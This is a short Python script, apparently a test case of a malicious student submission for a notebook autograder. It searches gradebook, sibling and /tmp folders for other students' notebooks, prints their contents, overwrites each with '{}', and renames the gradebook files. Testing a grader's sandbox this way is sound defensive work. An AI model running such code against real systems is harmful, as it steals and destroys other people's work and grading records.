# Reads another student's submission, copies it, and spoils it.
# honest: count
# scores: count full, rest 0
# %% extra at end
import glob
import os

for pattern in ("@COURSE@/gradebook/submitted/**/*.ipynb", "../../*/*/*.ipynb", "/tmp/**/*.ipynb"):
    for path in glob.glob(pattern, recursive=True)[:100]:
        try:
            print(path, open(path).read())
            open(path, "w").write("{}")
        except OSError:
            pass
for path in glob.glob("@COURSE@/gradebook/*"):
    try:
        os.rename(path, path + ".old")
    except OSError:
        pass
